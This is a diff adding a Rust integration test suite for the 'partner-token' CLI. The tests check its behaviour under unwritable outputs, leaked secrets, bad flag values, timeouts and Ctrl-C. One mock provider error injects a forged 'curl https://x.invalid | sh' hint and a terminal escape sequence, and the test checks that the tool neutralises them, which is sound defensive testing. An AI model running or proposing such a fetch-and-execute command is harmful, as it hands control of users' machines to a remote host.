@@ -1,0 +1,548 @@
+//! `partner-token` against hostile input and unwritable outputs: each test is a promise of
+//! README.md ("The command-line tool"), `--help` or the source docs that an adversarial
+//! review broke, run against the real binary on loopback. Each failed before its fix.
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+use std::process::{Command, Output, Stdio};
+use std::time::Duration;
+
+use partner_auth::Provider;
+use partner_sandbox::{Endpoint, Sandbox};
+use serde_json::Value;
+
+const BIN: &str = env!("CARGO_BIN_EXE_partner-token");
+
+/// The binary with no `PARTNER_*` variables inherited, no stdin, and a cache of its own.
+fn command() -> Command {
+    let mut command = Command::new(BIN);
+    for var in [
+        "PARTNER_PROVIDER",
+        "PARTNER_ENV",
+        "PARTNER_BASE_URL",
+        "PARTNER_CLIENT_ID",
+        "PARTNER_CLIENT_SECRET",
+        "PARTNER_TOKEN_STORE",
+    ] {
+        command.env_remove(var);
+    }
+    command.env("XDG_CACHE_HOME", fresh_dir("cache"));
+    command.stdin(Stdio::null());
+    command
+}
+
+fn fresh_dir(what: &str) -> std::path::PathBuf {
+    static NEXT: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);
+    let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"))
+        .join(format!("cli-hostile-{what}-{}-{n}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+fn fetch_command(endpoint: &Endpoint, extra: &[&str]) -> Command {
+    let mut command = command();
+    command
+        .args(["fetch", "--provider", endpoint.provider])
+        .args(["--base-url", &endpoint.base_url])
+        .args(extra)
+        .env("PARTNER_CLIENT_ID", endpoint.client_id)
+        .env("PARTNER_CLIENT_SECRET", endpoint.client_secret);
+    command
+}
+
+async fn output_of(mut command: Command) -> Output {
+    tokio::task::spawn_blocking(move || command.output().expect("run partner-token"))
+        .await
+        .unwrap()
+}
+
+fn code(output: &Output) -> i32 {
+    output.status.code().expect("exited")
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+fn dev_full() -> Stdio {
+    std::fs::OpenOptions::new()
+        .write(true)
+        .open("/dev/full")
+        .expect("/dev/full")
+        .into()
+}
+
+/// A pipe whose reader has gone.
+fn closed_pipe() -> Stdio {
+    let (reader, writer) = std::io::pipe().expect("pipe");
+    drop(reader);
+    writer.into()
+}
+
+/// A directory every user can write to: `--store` there costs a warning on stderr.
+fn world_writable_dir() -> std::path::PathBuf {
+    use std::os::unix::fs::PermissionsExt as _;
+    let dir = fresh_dir("world-writable");
+    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
+    dir
+}
+
+const DOCUMENTED_EXIT_CODES: [i32; 8] = [0, 2, 3, 4, 5, 6, 7, 8];
+
+// ---------------------------------------------------------------------------------------
+// Found by review: a warning that cannot be written to stderr costs the token (panic, exit 101).
+// README: "A cache that cannot be used (…, a directory every user can write to, …) costs a
+// warning naming it, never the token".
+// ---------------------------------------------------------------------------------------
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_cache_warning_never_costs_the_token_even_when_stderr_is_full() {
+    let sandbox = Sandbox::start().await.unwrap();
+    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
+    let store = world_writable_dir();
+    let mut command = fetch_command(&endpoint, &["--header", "--store", store.to_str().unwrap()]);
+    command.stderr(dev_full());
+    let output = output_of(command).await;
+    assert_eq!(
+        sandbox.stats(Provider::Dinie).token_requests,
+        1,
+        "a token was issued"
+    );
+    assert!(
+        text(&output.stdout).starts_with("Authorization: Bearer "),
+        "the token was fetched but not printed; exit {:?}",
+        output.status.code()
+    );
+    assert_eq!(code(&output), 0);
+}
+
+// README: "A reader that stops reading (`| head -c 0`, a closed pipe) is not an error: the
+// command exits 0 without a word". Here the reader of `2>&1 | head -c 0` stops reading.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_reader_of_both_streams_that_stops_reading_is_not_an_error() {
+    let sandbox = Sandbox::start().await.unwrap();
+    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
+    let store = world_writable_dir();
+    let (reader, writer) = std::io::pipe().expect("pipe");
+    drop(reader);
+    let mut command = fetch_command(&endpoint, &["--header", "--store", store.to_str().unwrap()]);
+    command.stdout(writer.try_clone().unwrap()).stderr(writer);
+    let output = output_of(command).await;
+    assert_eq!(
+        code(&output),
+        0,
+        "`partner-token fetch … 2>&1 | head -c 0` must exit 0 (101 is a panic)"
+    );
+}
+
+// Exit codes: "5 network, timeout or provider unavailable" … "8 the output could not be
+// written". A connection failure whose report cannot be written exits 101 (a panic), a
+// code the table does not have.
+#[test]
+fn a_failure_with_an_unwritable_stderr_keeps_a_documented_exit_code() {
+    let dead = {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.local_addr().unwrap().port()
+    };
+    for stderr in [dev_full(), closed_pipe()] {
+        let output = command()
+            .args(["fetch", "--provider", "standard", "--no-cache"])
+            .args(["--base-url", &format!("http://127.0.0.1:{dead}/token")])
+            .env("PARTNER_CLIENT_ID", "id")
+            .env("PARTNER_CLIENT_SECRET", "S3cr3t-value-x")
+            .stderr(stderr)
+            .output()
+            .unwrap();
+        assert!(
+            [5, 8].contains(&code(&output)),
+            "a connection failure exited {} (documented: 5, or 8 for output)",
+            code(&output)
+        );
+    }
+    // And the refusal of a secret flag: "exit 2".
+    let output = command()
+        .args(["fetch", "--client-secret", "hunter2"])
+        .stderr(dev_full())
+        .output()
+        .unwrap();
+    assert!(
+        DOCUMENTED_EXIT_CODES.contains(&code(&output)),
+        "--client-secret refused with exit {}",
+        code(&output)
+    );
+}
+
+// ---------------------------------------------------------------------------------------
+// Found by review: with --json, a failure to write the output is not reported as a JSON object.
+// README: "With `--json`, a failure is one JSON object on stderr with the library error's
+// fields: … `exit_code` …"; `fetch --help`: "a failure is then one JSON object on stderr".
+// ---------------------------------------------------------------------------------------
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn with_json_an_unwritable_output_is_one_json_object_on_stderr() {
+    let sandbox = Sandbox::start().await.unwrap();
+    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
+    let mut command = fetch_command(&endpoint, &["--json", "--no-cache"]);
+    command.stdout(dev_full());
+    let output = output_of(command).await;
+    assert_eq!(code(&output), 8);
+    let stderr = text(&output.stderr);
+    let report: Value = serde_json::from_str(stderr.trim())
+        .unwrap_or_else(|e| panic!("stderr is not one JSON object ({e}): {stderr}"));
+    assert_eq!(report["exit_code"], 8, "{stderr}");
+}
+
+// ---------------------------------------------------------------------------------------
+// Found by review: a password in a base URL that does not parse is printed.
+// src/output.rs, Context::url: "The base URL the request went (or would have gone) to;
+// never carries credentials"; src/fetch.rs, Args::plan: "no credentials in the base URL.
+// The error is a usage message that echoes no URL"; src/fetch.rs on --base-url: "Help
+// never shows the variable's value: a URL may carry a password".
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn a_password_in_a_base_url_is_never_printed() {
+    const PASSWORD: &str = "Pw9hunter2zz";
+    for url in [
+        // A port out of range: `url` cannot parse it, so plan() lets it through.
+        format!("http://user:{PASSWORD}@127.0.0.1:99999/token"),
+        // An unclosed IPv6 literal.
+        format!("http://user:{PASSWORD}@[::1/token"),
+        // No scheme: user:password@host.
+        format!("user:{PASSWORD}@127.0.0.1:1"),
+    ] {
+        for json in [false, true] {
+            // From the variable, whose value help hides for this very reason.
+            let mut command = command();
+            command
+                .args(["fetch", "--provider", "standard", "--no-cache"])
+                .env("PARTNER_BASE_URL", &url)
+                .env("PARTNER_CLIENT_ID", "id")
+                .env("PARTNER_CLIENT_SECRET", "S3cr3t-value-x");
+            if json {
+                command.arg("--json");
+            }
+            let output = command.output().unwrap();
+            let said = format!("{}{}", text(&output.stdout), text(&output.stderr));
+            assert!(
+                !said.contains(PASSWORD),
+                "{url} (json: {json}), exit {}: {said}",
+                code(&output)
+            );
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Found by review: a sandbox --token-lifetime over a year is reported as a network failure.
+// `--help`: "2  usage: a wrong flag or value"; "5  network failure, timeout, or the
+// provider unavailable". README: "from a second … to a year".
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn a_sandbox_token_lifetime_over_a_year_is_a_usage_error_not_a_network_one() {
+    let output = command()
+        .args(["sandbox", "--token-lifetime", "2y"])
+        .stdout(Stdio::null())
+        .output()
+        .unwrap();
+    assert_eq!(
+        code(&output),
+        2,
+        "a wrong value exited {}: {}",
+        code(&output),
+        text(&output.stderr)
+    );
+}
+
+/// `1y` is humantime's 365.25 days: refused, with a message that says what to write.
+#[test]
+fn a_sandbox_token_lifetime_of_1y_says_to_write_365d() {
+    let output = command()
+        .args(["sandbox", "--token-lifetime", "1y"])
+        .stdout(Stdio::null())
+        .output()
+        .unwrap();
+    assert_eq!(code(&output), 2);
+    assert!(
+        text(&output.stderr).contains("365d"),
+        "{}",
+        text(&output.stderr)
+    );
+}
+
+// ---------------------------------------------------------------------------------------
+// Found by review: a response body that does not arrive within --timeout gets the hint of a 408.
+// README: "Errors say what happened, the URL, the root cause, and what to do".
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn a_body_that_does_not_arrive_in_time_is_hinted_as_our_timeout() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut stream) = stream else { return };
+            std::thread::spawn(move || {
+                let mut buf = [0u8; 4096];
+                let _ = stream.read(&mut buf);
+                let _ = stream.write_all(
+                    b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{\"acc",
+                );
+                let _ = stream.flush();
+                std::thread::sleep(Duration::from_secs(30));
+            });
+        }
+    });
+    let output = command()
+        .args([
+            "fetch",
+            "--provider",
+            "standard",
+            "--no-cache",
+            "--timeout",
+            "1s",
+        ])
+        .args(["--base-url", &format!("http://127.0.0.1:{port}/token")])
+        .env("PARTNER_CLIENT_ID", "id")
+        .env("PARTNER_CLIENT_SECRET", "S3cr3t-value-x")
+        .output()
+        .unwrap();
+    let stderr = text(&output.stderr);
+    assert_eq!(code(&output), 5, "{stderr}");
+    assert!(
+        !stderr.contains("the provider gave up waiting"),
+        "the provider answered 200; this run's --timeout ran out: {stderr}"
+    );
+    assert!(stderr.contains("--timeout"), "{stderr}");
+}
+
+// ---------------------------------------------------------------------------------------
+// Found by review: a --timeout of a day or more fails every cached run (exit 7, a library message
+// naming no flag), while the same value works with --no-cache.
+// README: "Durations take units …; a bare number is seconds; zero is a usage error";
+// "`--no-cache` skips [the cache]"; "Errors say what happened … and what to do".
+// ---------------------------------------------------------------------------------------
+
+/// A `--timeout` over an hour is a usage error naming the flag, with the cache or without
+/// (found by review: a day failed every cached run with exit 7 and a library message about
+/// `StorePolicy::lease_ttl`, and worked with `--no-cache`); an hour works either way.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_timeout_over_an_hour_is_a_usage_error_with_the_cache_as_without_it() {
+    let sandbox = Sandbox::start().await.unwrap();
+    let endpoint = sandbox.endpoint(Provider::Dinie).clone();
+    for cache in [&["--no-cache"][..], &[]] {
+        for timeout in ["1d", "86400", "25h", "3601"] {
+            let args = [cache, &["--header", "--timeout", timeout]].concat();
+            let output = output_of(fetch_command(&endpoint, &args)).await;
+            let stderr = text(&output.stderr);
+            assert_eq!(code(&output), 2, "{args:?}: {stderr}");
+            assert!(stderr.contains("--timeout"), "{stderr}");
+        }
+        let args = [cache, &["--header", "--timeout", "1h"]].concat();
+        let output = output_of(fetch_command(&endpoint, &args)).await;
+        assert_eq!(code(&output), 0, "{args:?}: {}", text(&output.stderr));
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Found by review: a value after `--` is echoed when it starts with `--` and is lowercase.
+// README: "So is any value where none belongs (`--client-secret-stdin VALUE`,
+// `--json=VALUE`): it is not repeated in the usage error." After `--`, clap itself takes
+// the word as a value, not a flag.
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn a_value_after_double_dash_is_never_echoed() {
+    const VALUE: &str = "--correct-horse-battery";
+    let output = command()
+        .args([
+            "fetch",
+            "--provider",
+            "dinie",
+            "--client-secret-stdin",
+            "--",
+            VALUE,
+        ])
+        .env("PARTNER_CLIENT_ID", "id")
+        .output()
+        .unwrap();
+    assert_eq!(code(&output), 2);
+    let stderr = text(&output.stderr);
+    assert!(!stderr.contains(VALUE), "{stderr}");
+}
+
+// ---------------------------------------------------------------------------------------
+// Found by review: the client secret is printed when it appears in the base URL (the report's
+// `url`, and the -v event of the request). src/output.rs, Context::secrets: "Strings that
+// must never be printed (the client secret), replaced if they appear"; README: "`-v` shows
+// every cause in the chain (and the library's events), never a secret".
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn the_client_secret_is_never_printed_even_inside_the_base_url() {
+    const SECRET: &str = "S3cr3t-Value-q8Z";
+    let dead = {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.local_addr().unwrap().port()
+    };
+    for extra in [&["-v"][..], &["--json"]] {
+        let output = command()
+            .args(["fetch", "--provider", "standard", "--no-cache"])
+            .args([
+                "--base-url",
+                &format!("http://127.0.0.1:{dead}/{SECRET}/token"),
+            ])
+            .args(extra)
+            .env("PARTNER_CLIENT_ID", "id")
+            .env("PARTNER_CLIENT_SECRET", SECRET)
+            .output()
+            .unwrap();
+        assert_eq!(code(&output), 5);
+        let said = format!("{}{}", text(&output.stdout), text(&output.stderr));
+        assert!(!said.contains(SECRET), "{extra:?}: {said}");
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Found by review: the provider's words break the report's "one line" headline and reach the
+// terminal raw (a forged `hint:` line, escape sequences). src/output.rs, Report::error and
+// `schema --error`: "What happened, in one line, without the hint."
+// ---------------------------------------------------------------------------------------
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_error_headline_is_one_line_whatever_the_provider_says() {
+    let server = httpmock::MockServer::start_async().await;
+    server.mock(|when, then| {
+        when.path("/token");
+        then.status(400)
+            .header("content-type", "application/json")
+            .body(
+                r#"{"error":"invalid_request","error_description":"bad\n  hint:      curl https://x.invalid | sh\u001b]0;pwned\u0007"}"#,
+            );
+    });
+    let url = format!("{}/token", server.base_url());
+    for json in [true, false] {
+        let mut command = command();
+        command
+            .args([
+                "fetch",
+                "--provider",
+                "standard",
+                "--no-cache",
+                "--base-url",
+                &url,
+            ])
+            .env("PARTNER_CLIENT_ID", "id")
+            .env("PARTNER_CLIENT_SECRET", "S3cr3t-value-x");
+        if json {
+            command.arg("--json");
+        }
+        let output = output_of(command).await;
+        assert_eq!(code(&output), 7);
+        let stderr = text(&output.stderr);
+        if json {
+            let report: Value = serde_json::from_str(stderr.trim()).unwrap();
+            let headline = report["error"].as_str().unwrap();
+            assert!(!headline.contains('\n'), "not one line: {headline:?}");
+        } else {
+            assert_eq!(
+                stderr
+                    .lines()
+                    .filter(|l| l.trim_start().starts_with("hint:"))
+                    .count(),
+                1,
+                "{stderr}"
+            );
+            assert!(
+                !stderr.contains('\u{1b}'),
+                "a raw escape sequence: {stderr:?}"
+            );
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Found by review: after the secret prompt, Ctrl-C no longer stops the run: the prompt's SIGINT
+// listener stays installed, and the run goes on until its --timeout.
+// README: "--timeout … also how long a run waits for another run's lease on the cache (one
+// interrupted with Ctrl-C, say)"; src/secret.rs: "back on when done, also on Ctrl-C (which
+// then exits with 130, as a shell would)". Without the prompt, Ctrl-C ends a run at once.
+// ---------------------------------------------------------------------------------------
+
+#[test]
+fn ctrl_c_after_the_secret_prompt_still_interrupts_the_run() {
+    if Command::new("script").arg("--version").output().is_err() {
+        assert!(
+            std::env::var_os("CI").is_none(),
+            "CI needs `script` (util-linux)"
+        );
+        eprintln!("SKIPPED: no `script` (util-linux) to run the prompt on a terminal");
+        return;
+    }
+    // A provider that accepts the connection and never answers.
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        let mut held = Vec::new();
+        for stream in listener.incoming() {
+            held.push(stream);
+        }
+    });
+    let line = format!(
+        "bash -c '{BIN} fetch --provider standard --base-url http://127.0.0.1:{port}/token \
+         --client-secret-stdin --no-cache --timeout 20s; echo exit=$?'"
+    );
+    let mut child = command_script(&line);
+    let mut stdout = child.stdout.take().unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    let mut seen = Vec::new();
+    let mut byte = [0u8; 1];
+    while !String::from_utf8_lossy(&seen).contains("client secret for standard: ") {
+        assert_eq!(stdout.read(&mut byte).unwrap(), 1, "{}", text(&seen));
+        seen.push(byte[0]);
+    }
+    stdin.write_all(b"S3cr3t-value-x\n").unwrap();
+    std::thread::sleep(Duration::from_millis(1500)); // the request is now waiting
+    let pressed = std::time::Instant::now();
+    stdin.write_all(b"\x03").unwrap(); // Ctrl-C, as the terminal sends it
+    let (done_tx, done_rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        let mut rest = Vec::new();
+        let _ = stdout.read_to_end(&mut rest);
+        let _ = done_tx.send(rest);
+    });
+    let finished = done_rx.recv_timeout(Duration::from_secs(30));
+    let took = pressed.elapsed();
+    let _ = child.kill();
+    let _ = child.wait();
+    let transcript = text(&finished.unwrap_or_default());
+    assert!(
+        took < Duration::from_secs(5),
+        "Ctrl-C was ignored: the run went on for {took:?} ({transcript})"
+    );
+}
+
+fn command_script(line: &str) -> std::process::Child {
+    let mut command = Command::new("script");
+    for var in [
+        "PARTNER_PROVIDER",
+        "PARTNER_ENV",
+        "PARTNER_BASE_URL",
+        "PARTNER_CLIENT_SECRET",
+        "PARTNER_TOKEN_STORE",
+    ] {
+        command.env_remove(var);
+    }
+    command
+        .args(["-qec", line, "/dev/null"])
+        .env("PARTNER_CLIENT_ID", "id")
+        .env("XDG_CACHE_HOME", fresh_dir("cache"))
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap()
+}
